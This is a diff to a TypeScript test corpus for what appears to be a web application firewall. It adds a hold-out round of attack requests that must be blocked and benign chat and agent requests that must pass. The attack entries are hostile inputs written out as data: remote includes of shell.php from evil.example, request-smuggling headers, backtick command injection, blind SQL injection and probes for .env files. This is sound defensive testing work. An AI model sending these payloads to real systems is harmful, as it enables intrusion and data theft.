@@ -224,6 +224,38 @@ const INDEPENDENT_BENIGN: CorpusEntry[] = [
   { category: 'read', name: 'If-Modified-Since and compression', why: 'Caching and encoding headers', path: '/api/agents/agt_01J9Z3', headers: { ...bearer, 'If-Modified-Since': 'Wed, 21 Oct 2026 07:28:00 GMT', 'Accept-Encoding': 'gzip, deflate, br, zstd' } },
 ];
 
+/**
+ * Hold-out round 2 (a third, independent hardening round): cases from a corpus written before reading the
+ * rule table, kept here where they found a class the rules missed or refused, plus neighbours of each class.
+ * Names start with "holdout-2:".
+ */
+const HOLDOUT_2_ATTACKS: CorpusEntry[] = [
+  { category: 'lfi-rfi', name: 'holdout-2: ftp:// remote include', why: 'RFI through an ftp URL; CRS 931120 only fires on a trailing "?"', path: '/api/v1/page?template=ftp%3A%2F%2Fevil.example%2Fpayload.txt' },
+  { category: 'lfi-rfi', name: 'holdout-2: ftp:// with credentials in JSON', why: 'Import-from-URL field pointing at an ftp-hosted shell', method: 'POST', path: '/api/v1/files/import', headers: bearer, json: { url: 'ftp://anonymous@evil.example/shell.php' } },
+  { category: 'protocol', name: 'holdout-2: Transfer-Encoding chunked, identity', why: 'TE list obfuscation for smuggling; nginx answers 501, rendered as 400', raw: 'GET /api/v1/agents HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n' },
+  { category: 'cmdi', name: 'holdout-2: backtick command after one token in JSON', why: 'A code span at the end of a value is command substitution, not quoted code', method: 'POST', path: '/api/v1/tools/run', headers: bearer, json: { host: '8.8.8.8 `whoami`' } },
+  { category: 'cmdi', name: 'holdout-2: backtick after options in JSON', why: 'Command substitution inside an argument list', method: 'POST', path: '/api/v1/tools/run', headers: bearer, json: { cmd: 'ping -c 1 `id`' } },
+  { category: 'cmdi', name: 'holdout-2: two backtick spans, the last one live', why: 'Only a span that prose goes on after is quoted code', method: 'POST', path: '/api/v1/tools/run', headers: bearer, json: { args: '`id` `whoami`' } },
+  { category: 'sqli', name: 'holdout-2: IF(..., SLEEP()) in JSON', why: 'Conditional time-based blind SQLi stays refused with 942230 off for bodies', method: 'POST', path: '/api/v1/agents', headers: bearer, json: { filter: '1 AND IF(1=1,SLEEP(5),0)' } },
+  { category: 'sqli', name: 'holdout-2: CASE WHEN in a JSON sort field', why: 'Boolean oracle in ORDER BY stays refused (libinjection) with 942230 off for bodies', method: 'POST', path: '/api/v1/agents', headers: bearer, json: { sort: '(CASE WHEN (1=1) THEN name ELSE id END)' } },
+  { category: 'cmdi', name: 'holdout-2: PHP variable function call in a query', why: '933210 stays on outside JSON and multipart bodies', path: "/api/v1/tools/eval?code=%24_GET%5B'a'%5D(%24_GET%5B'b'%5D)%3B" },
+];
+
+const HOLDOUT_2_BENIGN: CorpusEntry[] = [
+  { category: 'write', name: 'holdout-2: markdown link in a prompt', why: 'A [text](url) link read as a PHP variable function call (933210)', method: 'POST', path: '/api/v1/conversations/7c9e6679-7425-40de-944b-e07fc1f90ae7/messages', headers: bearer, json: { role: 'user', content: '# Weekly summary\n\n- **Revenue**: up 12% (≈ €45k)\n- See [dashboard](https://metrics.example.com/d/abc?from=now-7d&to=now)\n\n> Note: numbers are preliminary.' } },
+  { category: 'write', name: 'holdout-2: two markdown links in agent instructions', why: 'Docs links with query strings and fragments in a PATCH', method: 'PATCH', path: '/api/v1/agents/agt_01J9Z3', headers: { ...bearer, 'Content-Type': 'application/merge-patch+json' }, body: JSON.stringify({ instructions: 'See the [README](https://github.com/acme/agent#install) and [docs](https://docs.acme.dev/v2?lang=en).' }) },
+  { category: 'write', name: 'holdout-2: JavaScript condition in a prompt', why: '"if (x > 0" read as conditional SQL (942230)', method: 'POST', path: '/api/v1/conversations/7c9e6679-7425-40de-944b-e07fc1f90ae7/messages', headers: bearer, json: { role: 'user', content: 'Compare these: if (x > 0 && y < 10) { return x || y; } — is that idiomatic JS?' } },
+  { category: 'write', name: 'holdout-2: prose about GROUP BY ... HAVING', why: '"having count >" read as conditional SQL (942230)', method: 'POST', path: '/api/v1/conversations/7c9e6679-7425-40de-944b-e07fc1f90ae7/messages', headers: bearer, json: { role: 'user', content: 'The function where() returns rows; call it with select(*) and then group by region, having count > 5.' } },
+  { category: 'write', name: 'holdout-2: inline code span that prose goes on after', why: 'Markdown `ls -la` in a sentence is quoted code, not command substitution (1030)', method: 'POST', path: '/api/v1/conversations/7c9e6679-7425-40de-944b-e07fc1f90ae7/messages', headers: bearer, json: { role: 'user', content: "My shell prompt shows user@host:~$ and `ls -la` prints nothing; what's wrong?" } },
+  { category: 'write', name: 'holdout-2: list of code spans in agent instructions', why: 'Comma-separated `cat file.txt`, `ps aux | grep node` spans', method: 'POST', path: '/api/v1/agents', headers: bearer, json: { name: 'Shell helper', instructions: 'When asked, suggest commands like `ls -la`, `cat file.txt` or `ps aux | grep node` and explain them.' } },
+  { category: 'write', name: 'holdout-2: code span ending a sentence', why: 'A prompt that ends with a code span and a full stop', method: 'POST', path: '/api/v1/runs', headers: bearer, json: { agent_id: 'agt_01J9Z3', input: 'Run `ls -la`.' } },
+  { category: 'write', name: 'holdout-2: code spans with grep and wc', why: 'Two shell code spans in one sentence', method: 'POST', path: '/api/v1/conversations/7c9e6679-7425-40de-944b-e07fc1f90ae7/messages', headers: bearer, json: { role: 'user', content: 'Use `grep -r TODO src/` to find leftovers, then `wc -l` to count them.' } },
+  { category: 'write', name: "holdout-2: O'Connor order with select/drop prose", why: 'Apostrophe name, semicolon, select and drop in one sentence', method: 'POST', path: '/api/v1/conversations/7c9e6679-7425-40de-944b-e07fc1f90ae7/messages', headers: { ...bearer, 'User-Agent': 'okhttp/4.12.0', 'Accept-Language': 'en-IE,en;q=0.9' }, json: { role: 'user', content: "Dear Ms. O'Connor, I'd like to order 3 items; please select express shipping and drop the gift wrap." } },
+  { category: 'write', name: 'holdout-2: Slack slash command form', why: 'Form body with an apostrophe user name and prose', method: 'POST', path: '/api/v1/webhooks/slack', headers: { ...form, 'X-Slack-Signature': 'v0=a2114d57b48eac39b9ad189dd8316235a7b4a8d21a10bd27519666489c69b503', 'X-Slack-Request-Timestamp': '1531420618', 'User-Agent': 'Slackbot 1.0 (+https://api.slack.com/robots)' }, body: "token=gIkuvaNzQIHg97ATvDxqgjtO&team_id=T0001&user_name=liam.o'neill&command=%2Fagent&text=summarize%20%23general%20since%20monday%2C%20and%20don't%20include%20bots" },
+  { category: 'write', name: 'holdout-2: json-patch with an apostrophe value', why: 'RFC 6902 operations with paths that look like file paths', method: 'PATCH', path: '/api/v1/agents/agt_01J9Z3', headers: { ...bearer, 'Content-Type': 'application/json-patch+json' }, body: JSON.stringify([{ op: 'replace', path: '/name', value: "Zoë's agent" }, { op: 'remove', path: '/tags/0' }, { op: 'add', path: '/tools/-', value: 'web_search' }]) },
+  { category: 'upload', name: 'holdout-2: CSV with formulas, semicolons and doubled quotes', why: 'Spreadsheet export quoting', method: 'POST', path: '/api/v1/files', headers: bearer, form: { fields: { purpose: 'assistants' }, files: [{ field: 'file', filename: 'contacts.csv', contentType: 'text/csv', content: 'name,email,note\n"O\'Brien, Siobhán",siobhan@example.ie,"said ""hi"""\nZoë;Müller,zoe@example.de,=SUM(A1:A3)\n"D\'Angelo",d@example.it,"1=1; drop me a line"\n' }] } },
+];
+
 export const ATTACKS: CorpusEntry[] = [
   // SQL injection
   { category: 'sqli', name: 'guide verification: tautology in a query parameter', why: 'The guide\'s own check: curl "/api/?id=1\' OR \'1\'=\'1" must be 403', path: "/api/?id=1'%20OR%20'1'='1" },
@@ -287,6 +319,7 @@ export const ATTACKS: CorpusEntry[] = [
   { category: 'scanner', name: 'probe for .env', why: 'Scanners probe for leaked environment files', path: '/.env' },
   { category: 'scanner', name: 'probe for .git/config', why: 'Scanners probe for exposed git metadata', path: '/.git/config' },
   ...INDEPENDENT_ATTACKS,
+  ...HOLDOUT_2_ATTACKS,
 ];
 
 export const BENIGN: CorpusEntry[] = [
@@ -333,4 +366,5 @@ export const BENIGN: CorpusEntry[] = [
   { category: 'upload', name: 'image upload', why: 'Avatars are PNG files', method: 'POST', path: '/api/users/42/avatar', headers: auth, form: { files: [{ field: 'avatar', filename: 'me.png', contentType: 'image/png', content: Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex') }] } },
   { category: 'write', name: 'Q&A prose with quotes', why: 'Quoted speech, ampersands and question marks', method: 'POST', path: '/api/notes', headers: auth, json: { body: 'Q&A: "Can we select a different model?" - "Yes, and we\'ll drop the old one." Thanks & regards, Zoë' } },
   ...INDEPENDENT_BENIGN,
+  ...HOLDOUT_2_BENIGN,
 ];
